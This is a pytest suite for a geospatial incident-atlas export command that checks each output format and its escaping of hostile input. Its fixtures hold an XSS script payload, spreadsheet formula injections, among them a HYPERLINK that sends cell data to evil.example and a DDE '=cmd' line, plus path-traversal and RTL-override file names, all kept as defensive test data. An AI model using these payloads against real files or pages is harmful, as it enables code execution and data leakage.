"""Briefing exports: every format written by the command line, reopened and checked against the
query; formula cells, script payloads and hostile file names neutralised; the HTML map offline
in Chromium.

The command is ``python -m geo export`` once ``geo.cli`` registers it, and ``python -m
geo.export`` (the same code) until then: :func:`command` picks whichever exists.
"""

from __future__ import annotations

import argparse
import csv
import io
import itertools
import json
import os
import re
import subprocess
import sys
import tempfile
import xml.etree.ElementTree as ET
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import date
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from conftest import ATLAS_OFFLINE_SCHEMES
from PIL import Image

from geo import query
from geo.export import FORMATS, View, export, safe_filename, snapshot
from geo.export import cli as export_cli
from geo.export.tabular import csv_cells, neutralise, read_csv_cells, restore_cell
from geo.export.view import clean_row
from geo.gazetteer import Gazetteer
from geo.io.geojson import read_bundled
from geo.mapping import style
from geo.model import Incident, from_feature, parse_incident
from geo.paths import ROOT
from geo.store import open_store

GAZ = Gazetteer.load()
ALL = read_bundled()  # what the store opened fresh holds
FRAME_ALL = query.to_frame(ALL)
KML = "{http://www.opengis.net/kml/2.2}"

#: the export every command-line test reopens: a range, a title with markup, a marking
START = "2023-10-20"
TITLE = "Briefing <b>Tanf & Asad</b> $x$"
MARKING = "UNCLASSIFIED"
ARGS = ["--start", START, "--title", TITLE, "--marking", MARKING]
FILTERS = query.Filters(start=date.fromisoformat(START))
FRAME = query.apply(FRAME_ALL, FILTERS)
IDS = set(FRAME["id"])
LOCATED = FRAME[FRAME["longitude"].notna()]


def command() -> list[str]:
    """``python -m geo export`` when geo.cli has it, else ``python -m geo.export``."""
    from geo.cli import parser

    sub = next(a for a in parser()._actions if isinstance(a, argparse._SubParsersAction))
    return (
        [sys.executable, "-m", "geo", "export"]
        if "export" in sub.choices
        else [sys.executable, "-m", "geo.export"]
    )


STORE = Path(tempfile.mkdtemp(prefix="atlas-export-")) / "store.sqlite"


@pytest.fixture(autouse=True, scope="module")
def _own_store() -> Iterator[None]:
    """In this process too, the store is this module's own (never the user's)."""
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("ATLAS_STORE", str(STORE))
        yield


def run(*args: str) -> subprocess.CompletedProcess[str]:
    """The command on a store of its own, holding the bundled incidents."""
    if not STORE.exists():
        open_store(str(STORE)).close()  # seeded once, before commands run two at a time
    return subprocess.run(
        [*command(), *args],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=180,
        env={**os.environ, "ATLAS_STORE": str(STORE)},
    )


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Every format written once by the command, two processes at a time."""
    out = tmp_path_factory.mktemp("exports")
    jobs = {fmt: out / f"briefing.{fmt}" for fmt in FORMATS}

    def one(item: tuple[str, Path]) -> tuple[str, subprocess.CompletedProcess[str]]:
        name, path = item
        return name, run("--format", name, "--out", str(path), *ARGS)

    with ThreadPoolExecutor(max_workers=2) as pool:
        results = dict(pool.map(one, jobs.items()))
    for name, done in results.items():
        assert done.returncode == 0, f"{name}: {done.stderr}"
        line = json.loads(done.stdout)
        assert line == {
            "format": name,
            "out": str(jobs[name]),
            "incidents": len(FRAME),
        }
        assert done.stderr == ""
    return jobs


def cli_view() -> View:
    """The view the command exported, built by the command's own code."""
    return export_cli.view_from(
        export_cli.parser().parse_args(["--format", "png", "--out", "x", *ARGS])
    )


# -- hostile input -------------------------------------------------------------------------------

PAYLOAD = '<script>window.pwned=1</script><img src=x onerror="window.pwned=2">'
FORMULAS = {
    "location": '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "damage": "+1",
    "notes": "-1",
    "claimed_by": "@SUM(A1:A9)",
    "attributed_to": "\tcmd",
    "admin1": "\rline",
}


def incident(site_id: str, day: str, **kw: Any) -> Incident:
    site = GAZ.get(site_id)
    data: dict[str, Any] = {
        "event_type": "attack",
        "date_start": day,
        "date_end": day,
        "date_precision": 1,
        "site_id": site_id,
        "location": site.name,
        "country": site.country,
        "geo_precision": 1,
        "latitude": site.latitude,
        "longitude": site.longitude,
        "weapons": ["rocket"],
        "sources": [{"article": "test", "published": day, "quote": "A test sentence."}],
    }
    data.update(kw)
    return parse_incident(data)


def view_of(incidents: list[Incident], **kw: Any) -> View:
    frame = query.to_frame(incidents)
    kw.setdefault("as_of", "test data")
    return View(frame=frame, filters=query.Filters(), gazetteer=GAZ, **kw)


HOSTILE = [
    incident(
        "mosul",
        "2023-11-09",
        sources=[{"article": "evil", "published": "2023-11-11", "quote": PAYLOAD}],
        **FORMULAS,
    ),
    incident(
        "harir",
        "2023-11-10",
        weapons=["drone"],
        outcome="intercepted",
        location="'=still a formula",
        notes="'quoted, not a formula",
        sources=[
            {"article": "=cmd|' /C calc'!A0", "published": "2023-11-11", "quote": "'already quoted"}
        ],
    ),
]


# -- the registry ---------------------------------------------------------------------------------


def test_one_registry_of_formats() -> None:
    assert list(FORMATS) == ["png", "pdf", "pptx", "html", "csv", "geojson", "kml", "gpkg"]
    for fmt, exporter in FORMATS.items():
        assert exporter.extension == "." + fmt
        assert callable(exporter.write)


def test_the_cli_offers_every_registered_format(tmp_path: Path) -> None:
    """``--format`` takes its choices from the registry: a format registered later (here a
    second name for the CSV writer) is reachable from the command line."""
    from geo.export import Exporter, register

    extra = Exporter("tsvx", ".tsvx", "text/csv", "Extra", "geo.export.tabular:write_csv")
    register(extra)
    try:
        parsed = export_cli.parser().parse_args(["--format", "tsvx", "--out", "x.tsvx"])
        assert parsed.format == "tsvx"
        help_text = export_cli.parser().format_help()
        assert all(fmt in help_text for fmt in FORMATS)
    finally:
        del FORMATS["tsvx"]
    with pytest.raises(SystemExit):  # gone from the registry, gone from the choices
        export_cli.parser().parse_args(["--format", "tsvx", "--out", "x.tsvx"])


def test_snapshot_site_lookup_hides_only_an_unknown_id() -> None:
    """An id the gazetteer does not know draws as a place without a site; any other failure
    of the lookup is a bug and surfaces (it used to be swallowed as "no site")."""
    from types import SimpleNamespace

    gazetteer = Gazetteer.load()
    view: Any = SimpleNamespace(gazetteer=gazetteer)
    assert snapshot._site(view, "al_asad").name == gazetteer.get("al_asad").name
    assert snapshot._site(view, "no_such_site") is None
    assert snapshot._site(view, None) is None

    class Broken:
        def get(self, site_id: str) -> Any:
            raise RuntimeError("the gazetteer broke")

    with pytest.raises(RuntimeError, match="the gazetteer broke"):
        snapshot._site(SimpleNamespace(gazetteer=Broken()), "al_asad")  # type: ignore[arg-type]


def test_unknown_format_and_bad_arguments(capsys: pytest.CaptureFixture[str]) -> None:
    from geo.errors import AtlasError

    with pytest.raises(AtlasError, match="unknown export format"):
        export("docx", view_of(HOSTILE), Path("never-written.docx"))
    for args, message in (
        (["--site", "nowhere"], "unknown site id: nowhere"),
        (["--start", "2024-02-01", "--end", "2024-01-01"], "is after --end"),
        (["--weapon", "laser"], "unknown weapon 'laser'"),
    ):
        assert export_cli.main(["--format", "csv", "--out", "never.csv", *args]) == 2
        out, err = capsys.readouterr()
        assert out == "" and message in err
    with pytest.raises(SystemExit) as exit_:
        export_cli.main(["--format", "docx", "--out", "x.docx"])
    assert exit_.value.code == 2
    assert not Path("never.csv").exists()


# -- PNG and PDF ------------------------------------------------------------------------------------

BACKGROUND = {style.SEA, style.LAND, style.FOCUS_LAND, "#ffffff"}


def _rgb(hex_colour: str) -> tuple[int, int, int]:
    return tuple(int(hex_colour[i : i + 2], 16) for i in (1, 3, 5))  # type: ignore[return-value]


def _near(a: tuple[int, ...], b: tuple[int, ...], tol: int = 40) -> bool:
    return all(abs(x - y) <= tol for x, y in zip(a[:3], b[:3], strict=True))


def _drawn_near(img: Image.Image, x: float, y: float, r: int = 3) -> bool:
    """Some pixel within r of (x, y) is not plain sea, land or paper.  (r 3: a site's hub sits
    on its point, and a two-digit count leaves the hub's white face bare between the digits.)"""
    back = [_rgb(c) for c in BACKGROUND]
    for dx in range(-r, r + 1):
        for dy in range(-r, r + 1):
            px = img.getpixel((round(x) + dx, round(y) + dy))
            if not any(_near(px, b, 6) for b in back):
                return True
    return False


def test_png_size_pins_and_determinism(outputs: dict[str, Path]) -> None:
    data = outputs["png"].read_bytes()
    img = Image.open(io.BytesIO(data)).convert("RGB")
    assert img.size[0] >= 1920 and img.size[1] >= 1080
    assert b"Software" not in data and b"tIME" not in data

    # The same view drawn here, in another process, twice, is byte-identical to the command's
    # file (so the export is deterministic) and its positions are the file's.
    snap = snapshot.render(cli_view())
    assert snap.png() == data
    assert snapshot.render(cli_view()).png() == data
    assert set(snap.pins) == set(LOCATED["id"])
    shared = Counter(snap.pins.values())
    for row in LOCATED.to_dict("records"):
        x, y = snap.project(row["longitude"], row["latitude"])
        assert 0 <= x < img.size[0] and 0 <= y < img.size[1]
        assert _drawn_near(img, x, y), f"nothing drawn at {row['id']}'s point"
        px, py = snap.pins[row["id"]]
        colours = [_rgb(style.WEAPON_COLOURS[w]) for w in row["weapons"]]
        if shared[(px, py)] > 1:
            # a busy place's pin for all its incidents of one kind (snapshot.FAN_MAX): the
            # first weapon's colour round the count
            assert snap.grouped
            ring = [img.getpixel((round(px) + d, round(py))) for d in range(-9, 10)]
            assert any(_near(p, colours[0]) for p in ring), row["id"]
        elif row["outcome"] in ("intercepted", "mixed"):
            # a ring in the first weapon's colour round a white or coloured centre
            ring = [img.getpixel((round(px) + d, round(py))) for d in range(-9, 10)]
            assert any(_near(p, colours[0]) for p in ring), row["id"]
        else:
            patch = [
                img.getpixel((round(px) + dx, round(py) + dy))
                for dx in range(-3, 4)
                for dy in range(-3, 4)
            ]
            for colour in colours:
                assert any(_near(p, colour) for p in patch), (row["id"], colour)


def test_png_of_one_place_is_inside_the_frame() -> None:
    snap = snapshot.render(view_of(HOSTILE, title=TITLE, selected_sites=("mosul",)))
    img = Image.open(io.BytesIO(snap.png())).convert("RGB")
    for inc in HOSTILE:
        assert _drawn_near(img, *snap.project(inc.longitude, inc.latitude))
    assert set(snap.hubs) == {"mosul", "harir"}


def _pdf_pages(data: bytes) -> list[list[float]]:
    """MediaBoxes of the pages (matplotlib writes page dictionaries uncompressed)."""
    pages = re.findall(rb"/Type\s*/Page\b(?!s).*?/MediaBox\s*\[([^\]]*)\]", data, re.S)
    return [[float(v) for v in box.split()] for box in pages]


def test_pdf_is_one_a4_landscape_page_and_deterministic(outputs: dict[str, Path]) -> None:
    data = outputs["pdf"].read_bytes()
    assert data.startswith(b"%PDF-")
    view = cli_view()
    assert snapshot.render_a4(view).pdf(view.title) == data  # another process, same bytes
    assert b"CreationDate" not in data and b"matplotlib" not in data.lower()
    (box,) = _pdf_pages(data)
    width, height = box[2] - box[0], box[3] - box[1]
    assert width == pytest.approx(297 / 25.4 * 72, abs=0.5)  # 841.9 pt
    assert height == pytest.approx(210 / 25.4 * 72, abs=0.5)  # 595.3 pt


# -- PowerPoint -------------------------------------------------------------------------------------


def _texts(slide: Any) -> str:
    return "\n".join(s.text_frame.text for s in slide.shapes if s.has_text_frame)


def test_pptx_slides_table_and_notes(outputs: dict[str, Path]) -> None:
    from pptx import Presentation

    prs = Presentation(str(outputs["pptx"]))
    slides = list(prs.slides)
    titles = [s.shapes.title.text for s in slides]
    assert titles[0] == TITLE
    assert titles[1].startswith("Map")
    assert titles[-1] == "Sources and attribution"
    for slide in slides:
        notes = slide.notes_slide.notes_text_frame.text
        assert FILTERS.describe() in notes
        assert "Data as of:" in notes
        assert [s.text_frame.text for s in slide.shapes if s.name == "Marking"] == [MARKING] * 2

    pictures = [s for s in slides[1].shapes if s.shape_type == 13]  # MSO_SHAPE_TYPE.PICTURE
    assert len(pictures) == 1
    assert Image.open(io.BytesIO(pictures[0].image.blob)).size == (1920, 1080)

    # the Sites table: the query's site summaries, as the app computes them
    as_of = FILTERS.end or query.span(FRAME_ALL)[1]
    expected = query.site_summaries(query.for_summaries(FRAME, FILTERS), GAZ, as_of)
    tables = [s.table for slide in slides for s in slide.shapes if s.has_table]
    rows = [[c.text for c in row.cells] for t in tables for row in list(t.rows)[1:]]
    assert [c.text for c in tables[0].rows[0].cells][:3] == [
        "Site",
        "Attacks",
        "Confirmed / claimed",
    ]
    assert rows == [
        [
            s.site_name,
            str(s.incidents),
            f"{s.confirmed} / {s.claimed}",
            s.first_date.isoformat(),
            s.last_date.isoformat(),
            str(s.days_since_last),
            ", ".join(f"{style.WEAPON_LABELS[w]} {n}" for w, n in s.weapons.items()),
            s.killed.text(),
            s.injured.text(),
        ]
        for s in expected
    ]
    assert len(rows) >= 2

    # incident slides cover every incident in export order (beyond MAX_CARDS: the latest
    # MAX_CARDS, and every slide says so), with its quotes
    from geo.export.pptx import MAX_CARDS

    rows = cli_view().rows()
    assert len(rows) == len(FRAME)
    shown = rows[-MAX_CARDS:]
    of = str(len(rows)) if len(shown) == len(rows) else f"the {len(shown)} latest of {len(rows)}"
    spans = [re.match(rf"Incidents? (\d+)(?:–(\d+))? of {re.escape(of)}$", t) for t in titles]
    covered = [(int(m[1]), int(m[2] or m[1])) for m in spans if m]
    assert covered[0][0] == 1 and covered[-1][1] == len(shown)
    assert all(b[0] == a[1] + 1 for a, b in itertools.pairwise(covered))
    assert len(slides) == 2 + len(tables) + len(covered) + 1
    if len(shown) < len(rows):
        for slide in slides:
            notes = slide.notes_slide.notes_text_frame.text
            if re.match(r"Incidents? \d", slide.shapes.title.text):
                assert f"Only the {len(shown)} most recent of {len(rows)} incidents" in notes
    body = "\n".join(_texts(s) for s in slides)
    for row in shown:
        first = " ".join(row["sources"][0].quote.split())[:60]
        assert first in body, row["id"]


def test_pptx_carries_acled_attribution_and_survives_payloads(tmp_path: Path) -> None:
    from pptx import Presentation

    from geo.importers import ACLED_ATTRIBUTION

    acled = incident("al_asad", "2024-02-02", dataset="acled", id="acled:IRQ1")
    view = view_of([*HOSTILE, acled], title=PAYLOAD)
    export("pptx", view, tmp_path / "a.pptx")
    slides = list(Presentation(str(tmp_path / "a.pptx")).slides)
    assert slides[0].shapes.title.text == PAYLOAD  # text, whatever it contains
    assert ACLED_ATTRIBUTION in _texts(slides[-1])
    assert any(ACLED_ATTRIBUTION in line for line in snapshot._footer_lines(view, 13.3, 1.0))


# -- KML --------------------------------------------------------------------------------------------


def _placemarks(path: Path) -> dict[str, tuple[float, float, ET.Element]]:
    root = ET.parse(path).getroot()
    out = {}
    for pm in root.iter(f"{KML}Placemark"):
        data = {d.get("name"): d.findtext(f"{KML}value") for d in pm.iter(f"{KML}Data")}
        lon, lat, _ = (pm.findtext(f".//{KML}coordinates") or "").strip().split(",")
        out[data["id"]] = (float(lon), float(lat), pm)
    return out


def test_kml_placemarks_match_located_incidents(outputs: dict[str, Path]) -> None:
    path = outputs["kml"]
    root = ET.parse(path).getroot()
    assert root.tag == f"{KML}kml"
    marks = _placemarks(path)
    assert set(marks) == set(LOCATED["id"])
    styles = {s.get("id") for s in root.iter(f"{KML}Style")}
    for row in LOCATED.to_dict("records"):
        lon, lat, pm = marks[row["id"]]
        assert (lon, lat) == (row["longitude"], row["latitude"])
        assert pm.findtext(f"{KML}styleUrl").lstrip("#") in styles
        assert pm.findtext(f".//{KML}begin") == row["date_start"].isoformat()
    doc = root.find(f"{KML}Document")
    unlocated = len(FRAME) - len(LOCATED)
    counts = {d.get("name"): d.findtext(f"{KML}value") for d in doc.find(f"{KML}ExtendedData")}
    assert counts == {"located": str(len(LOCATED)), "unlocated_not_shown": str(unlocated)}
    assert f"{unlocated} unlocated incidents not shown" in doc.findtext(f"{KML}description")
    # a GIS reader (GDAL's KML driver) finds the same points
    import pyogrio

    found = sum(
        len(pyogrio.read_dataframe(path, layer=name)) for name, _ in pyogrio.list_layers(path)
    )
    assert found == len(LOCATED)


def test_kml_descriptions_escape_payloads(tmp_path: Path) -> None:
    path = tmp_path / "h.kml"
    export("kml", view_of(HOSTILE, title=PAYLOAD, marking=PAYLOAD), path)
    raw = path.read_text(encoding="utf-8")
    assert "<script" not in raw and "<img" not in raw
    marks = _placemarks(path)
    description = marks[HOSTILE[0].id][2].findtext(f"{KML}description")
    # after XML parsing the balloon is HTML in which the payload is still escaped text
    assert "&lt;script&gt;window.pwned=1&lt;/script&gt;" in description
    assert "<script" not in description and "<img" not in description
    assert "<table>" in description  # our own markup stays markup


class _Html(HTMLParser):
    """Tags, attributes and text of an HTML fragment (character references decoded)."""

    def __init__(self, fragment: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str | None]] = []
        self.parts: list[str] = []
        self.feed(fragment)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs += attrs

    def handle_data(self, data: str) -> None:
        self.parts.append(data)

    @property
    def text(self) -> str:
        return "".join(self.parts)


#: the only markup a balloon may hold: ours
BALLOON_TAGS = {"h3", "table", "tr", "th", "td", "blockquote", "br", "small", "p", "i", "b"}


def test_kml_balloons_never_insert_a_name(tmp_path: Path) -> None:
    """The balloon template is ``$[description]`` alone (Google Earth does not document whether
    ``$[name]`` is escaped): a hostile place name reaches the balloon only through our escaped
    description, and a ``$[...]`` entity in the data is a character reference there, not an
    entity Google Earth would fill in."""
    hostile = PAYLOAD + " $[name] $[description] $[location]"
    unsited = incident(
        "mosul",
        "2023-11-12",
        location=hostile,
        notes="$[geDirections]",
        sources=[{"article": "$[id]", "published": "2023-11-12", "quote": hostile}],
    ).model_copy(update={"site_id": None})  # a point, but no site: the name is the location
    path = tmp_path / "names.kml"
    export("kml", view_of([*HOSTILE, unsited], title=hostile, marking="$[name]"), path)
    root = ET.parse(path).getroot()
    doc = root.find(f"{KML}Document")
    assert doc is not None
    styles = {st.get("id"): st for st in root.iter(f"{KML}Style")}
    for st in styles.values():  # every balloon: our description, nothing else
        assert st.findtext(f"{KML}BalloonStyle/{KML}text") == "$[description]", st.get("id")
    features = [doc, *root.iter(f"{KML}Placemark")]
    for feature in features:
        style_ref = (feature.findtext(f"{KML}styleUrl") or "").lstrip("#")
        assert style_ref in styles, "a feature without our balloon would get Google Earth's own"
        description = feature.findtext(f"{KML}description") or ""
        assert "$[" not in description  # no entity from the data (ours are not in it either)
        html = _Html(description)
        assert set(html.tags) <= BALLOON_TAGS, set(html.tags) - BALLOON_TAGS
        assert all(name == "align" for name, _ in html.attrs), html.attrs
    marks = _placemarks(path)
    pm = marks[unsited.id][2]
    name = unescape(pm.findtext(f"{KML}name") or "")  # escaped (see the test below)
    assert name == f"Attack: {hostile}, 12 Nov 2023"
    html = _Html(pm.findtext(f"{KML}description") or "")
    assert html.text.startswith(name)  # the name is the balloon's heading, as text
    assert "$[geDirections]" in html.text and "$[id]" in html.text
    assert hostile in _Html(doc.findtext(f"{KML}description") or "").text


def test_kml_names_and_attributes_carry_no_markup(tmp_path: Path) -> None:
    """Several KML viewers render a placemark's name and its ExtendedData values as HTML: data
    text there is escaped as in the balloons, so after XML parsing no tag is left, and the
    escaped text reads back as the data."""
    hostile = incident("al_asad", "2024-01-03", id=PAYLOAD, location=PAYLOAD).model_copy(
        update={"site_id": None}
    )
    path = tmp_path / "markup.kml"
    export("kml", view_of([*HOSTILE, hostile], title=PAYLOAD, marking=PAYLOAD), path)
    root = ET.parse(path).getroot()
    names = [el.text or "" for el in root.iter(f"{KML}name")]
    values = [el.text or "" for el in root.iter(f"{KML}value")]
    assert len(names) > len(HOSTILE) and len(values) > len(HOSTILE)
    for text in names + values:
        assert "<" not in text and ">" not in text, text
    found = [
        pm
        for pm in root.iter(f"{KML}Placemark")
        for d in pm.iter(f"{KML}Data")
        if d.get("name") == "id" and unescape(d.findtext(f"{KML}value") or "") == PAYLOAD
    ]
    assert len(found) == 1
    pm = found[0]
    data = {d.get("name"): unescape(d.findtext(f"{KML}value") or "") for d in pm.iter(f"{KML}Data")}
    assert data["id"] == PAYLOAD and data["location"] == PAYLOAD
    assert unescape(pm.findtext(f"{KML}name") or "") == f"Attack: {PAYLOAD}, 3 Jan 2024"


# -- GeoPackage ------------------------------------------------------------------------------------


def test_gpkg_reads_back_the_same_incidents(outputs: dict[str, Path]) -> None:
    import geopandas as gpd
    import pyogrio

    info = pyogrio.read_info(outputs["gpkg"], layer="incidents")
    assert info["geometry_type"] == "Point" and info["crs"] == "EPSG:4326"
    assert dict(zip(info["fields"], info["ogr_types"], strict=True))["date_start"] == "OFTDate"
    back = gpd.read_file(outputs["gpkg"], layer="incidents")
    assert back.crs.to_epsg() == 4326
    assert sorted(back["id"]) == sorted(IDS)  # unlocated kept
    by_id = back.set_index("id")
    for row in map(clean_row, FRAME.to_dict("records")):
        got = by_id.loc[row["id"]]
        assert got["date_start"].date() == row["date_start"]
        assert got["date_end"].date() == row["date_end"]
        assert got["weapons"] == ";".join(row["weapons"])
        assert [s["quote"] for s in json.loads(got["sources"])] == [s.quote for s in row["sources"]]
        if row["longitude"] is None:
            assert got.geometry is None or got.geometry.is_empty
        else:
            assert (got.geometry.x, got.geometry.y) == (row["longitude"], row["latitude"])


# -- CSV and GeoJSON --------------------------------------------------------------------------------


def test_csv_round_trips(outputs: dict[str, Path]) -> None:
    raw = outputs["csv"].read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: spreadsheets pick UTF-8
    rows = read_csv_cells(outputs["csv"])
    by_id = {i.id: i for i in ALL}
    assert sorted(r["id"] for r in rows) == sorted(IDS)
    for row in rows:
        inc = by_id[row["id"]]
        assert list(row.values()) == csv_cells(inc)
        assert row["weapons"] == ";".join(inc.weapons)
        assert json.loads(row["sources"]) == [s.model_dump(mode="json") for s in inc.sources]
    # and the project's own CSV importer reads it back to the same incidents
    from geo.importers import read_items

    items = list(read_items(outputs["csv"]))
    assert sorted(items, key=lambda i: i.id) == sorted((by_id[i] for i in IDS), key=lambda i: i.id)


def test_csv_neutralises_formulas(tmp_path: Path) -> None:
    path = tmp_path / "f.csv"
    export("csv", view_of(HOSTILE), path)
    with open(path, encoding="utf-8-sig", newline="") as fh:
        raw = {r["id"]: r for r in csv.DictReader(fh)}
    cells = raw[HOSTILE[0].id]
    for field, value in FORMULAS.items():
        assert cells[field] == "'" + value, field
    second = raw[HOSTILE[1].id]
    assert second["location"] == "''=still a formula"  # one more quote: reversible
    assert json.loads(second["sources"])[0]["article"] == "=cmd|' /C calc'!A0"  # inside JSON
    # every text cell a spreadsheet could run starts with the quote
    for row in raw.values():
        for field, value in row.items():
            if field not in ("longitude", "latitude") and not value[:1].isdigit():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (field, value)
    # and restoring gives the values back exactly
    back = {r["id"]: r for r in read_csv_cells(path)}
    for inc in HOSTILE:
        assert list(back[inc.id].values()) == csv_cells(inc)
    assert second["notes"] == "'quoted, not a formula"  # left as it is
    cases = {"=x": "'=x", "'=x": "''=x", "'x": "'x", "a=b": "a=b", "": "", "-1": "'-1"}
    for value, written in cases.items():
        assert neutralise(value) == written and restore_cell(written) == value


def test_geojson_has_the_same_incidents(outputs: dict[str, Path]) -> None:
    doc = json.loads(outputs["geojson"].read_text(encoding="utf-8"))
    assert doc["type"] == "FeatureCollection"
    assert doc["title"] == TITLE and doc["filters"] == FILTERS.describe()
    assert any("Natural Earth" in a for a in doc["attribution"])
    back = sorted((from_feature(f) for f in doc["features"]), key=lambda i: i.id)
    assert back == sorted((i for i in ALL if i.id in IDS), key=lambda i: i.id)


def test_empty_view_exports_every_format(tmp_path: Path) -> None:
    empty = View(
        frame=FRAME_ALL.iloc[0:0], filters=query.Filters(end=date(1990, 1, 1)), gazetteer=GAZ
    )
    for fmt in FORMATS:
        path = export(fmt, empty, tmp_path / f"empty.{fmt}")
        assert path.stat().st_size > 0, fmt


# -- file names ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("title", "fmt", "expected"),
    [
        ("Weekly brief", "pdf", "Weekly_brief.pdf"),
        ("../../etc/passwd", "png", "etc_passwd.png"),
        ("a/b\\c", "csv", "a_b_c.csv"),
        ("tab\there\nnew\x00nul\x1b[31m", "kml", "tab_here_new_nul_31m.kml"),
        ("", "pptx", "incident-atlas.pptx"),
        (None, "gpkg", "incident-atlas.gpkg"),
        ("   ...   ", "html", "incident-atlas.html"),
        ("report.pdf", "pdf", "report.pdf"),
        ("evil\u202egnp.exe", "png", "evil_gnp.exe.png"),
        ("CON", "csv", "_CON.csv"),
        ("Ain al-Asad — هجوم", "geojson", "Ain_al-Asad_هجوم.geojson"),
        ("Çatışma ﬁles", ".pdf", "Çatışma_files.pdf"),
        ('<b>"x"</b>: *?|', "png", "b_x_b.png"),
    ],
)
def test_safe_filename(title: str | None, fmt: str, expected: str) -> None:
    assert safe_filename(title, fmt) == expected


def test_safe_filename_limits_length() -> None:
    name = safe_filename("x" * 5000, "pptx")
    assert name.endswith(".pptx") and len(name) <= 85
    wide = safe_filename("ش" * 500, "csv")
    assert wide.endswith(".csv") and len(wide.encode("utf-8")) <= 190
    with pytest.raises(Exception, match="unknown export format"):
        safe_filename("x", "exe")


# -- HTML in Chromium --------------------------------------------------------------------------------


@pytest.fixture
def page(offline_page: Callable[..., Any]) -> Any:
    return offline_page(width=1280, schemes=(*ATLAS_OFFLINE_SCHEMES, "file"))


@pytest.mark.browser
def test_html_opens_offline_with_every_located_incident(
    page: Any, outputs: dict[str, Path]
) -> None:
    page.goto(outputs["html"].as_uri())
    page.wait_for_selector("div.atlas-dot[data-incident-id]")
    assert page.locator("div.atlas-dot").count() == len(LOCATED)
    ids = {
        page.locator("div.atlas-dot").nth(i).get_attribute("data-incident-id")
        for i in range(len(LOCATED))
    }
    assert ids == set(LOCATED["id"])
    assert page.locator("h1.atlas-export-title").inner_text() == TITLE  # text, not markup
    assert page.locator("h1.atlas-export-title b").count() == 0
    assert FILTERS.describe() in page.locator(".atlas-export-filters").inner_text()
    assert page.locator(".atlas-marking").all_inner_texts() == [MARKING, MARKING]
    box = page.locator(".folium-map").bounding_box()
    assert box is not None and box["height"] > 400  # the map fills the page under the header
    assert page.outside == []


@pytest.mark.browser
def test_html_header_payloads_do_not_run(page: Any, tmp_path: Path) -> None:
    path = tmp_path / "h.html"
    export("html", view_of(HOSTILE, title=PAYLOAD, marking=PAYLOAD), path)
    page.goto(path.as_uri())
    page.wait_for_selector("div.atlas-dot[data-incident-id]")
    assert page.locator("h1.atlas-export-title").inner_text() == PAYLOAD
    assert page.evaluate("() => window.pwned") is None
    assert page.outside == []
